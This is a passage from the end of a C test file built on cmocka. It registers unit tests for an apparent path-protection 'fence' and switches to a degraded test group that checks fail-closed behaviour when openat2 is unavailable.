		cmocka_unit_test_setup_teardown(test_protected_edit, setup, teardown),
		cmocka_unit_test_setup_teardown(test_protected_read, setup, teardown),
		cmocka_unit_test_setup_teardown(test_protected_full_access, setup, teardown),
		cmocka_unit_test_setup_teardown(test_protected_resolved, setup, teardown),
		cmocka_unit_test_setup_teardown(test_protected_read_fail_closed, setup, teardown),
	};

	/* Without openat2 (an old kernel, tests/shims --no-openat2) the mutations must fail
	 * closed: assert that, and what needs no openat2 (STYLE §7: degraded kernels). */
	const struct CMUnitTest degraded[] = {
		cmocka_unit_test(test_text_rules),
		cmocka_unit_test_setup_teardown(test_resolve, setup, teardown),
		cmocka_unit_test_setup_teardown(test_is_under, setup, teardown),
		cmocka_unit_test_setup_teardown(test_check, setup, teardown),
		cmocka_unit_test_setup_teardown(test_fail_closed_here, setup, teardown),
		cmocka_unit_test_setup_teardown(test_read, setup, teardown),
		cmocka_unit_test_setup_teardown(test_protected_read_fail_closed, setup, teardown),
	};

	(void)umask(022);
	if (!have_openat2()) {
		printf("openat2 is unavailable: asserting that the fence fails closed\n");
		return cmocka_run_group_tests(degraded, NULL, NULL);
	}
	return cmocka_run_group_tests(tests, NULL, NULL);
}
